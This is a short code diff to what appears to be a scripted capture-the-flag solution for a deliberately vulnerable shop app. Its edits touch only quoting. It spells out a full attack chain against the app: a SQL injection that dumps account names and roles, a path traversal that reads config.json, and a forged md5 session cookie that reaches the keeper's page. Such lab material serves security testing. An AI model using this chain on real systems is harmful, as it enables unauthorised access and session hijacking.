@@ -23,13 +23,13 @@ BREAK_IN = Script(
     commands=(
         f"curl -s {_SHOP}/",
         # SQL injection: who is the keeper?
-        f"curl -s -G {_SHOP}/search --data-urlencode \"q=%' UNION SELECT name, role, 0 FROM accounts --\"",
+        f'curl -s -G {_SHOP}/search --data-urlencode "q=%\' UNION SELECT name, role, 0 FROM accounts --"',  # noqa: S608
         # Path traversal: the word that makes sessions.
         f"curl -s --path-as-is '{_SHOP}/image?name=../config.json'",
         # A session of the keeper's own making.
-        f"KEY=$(curl -s '{_SHOP}/image?name=../config.json' | jq -r .session_key); "
+        (f"KEY=$(curl -s '{_SHOP}/image?name=../config.json' | jq -r .session_key); "
         "SESSION=marguerite.$(printf %s \"${KEY}marguerite\" | md5sum | cut -d' ' -f1); "
-        f"curl -s -b \"session=$SESSION\" {_SHOP}/keeper",
+        f'curl -s -b "session=$SESSION" {_SHOP}/keeper'),
     ),
     gets_the_flag=True,
 )
